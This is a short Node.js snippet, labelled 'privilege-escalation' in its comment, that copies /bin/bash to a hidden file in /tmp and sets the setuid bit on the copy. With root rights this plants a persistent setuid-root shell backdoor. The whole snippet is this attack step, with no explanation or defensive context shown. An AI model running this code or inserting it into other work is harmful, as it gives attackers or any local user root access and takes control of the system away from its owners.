// privilege-escalation: the setuid bit set with fs.chmodSync
const fs = require('fs');
fs.copyFileSync('/bin/bash', '/tmp/.bash');
fs.chmodSync('/tmp/.bash', 0o4755);
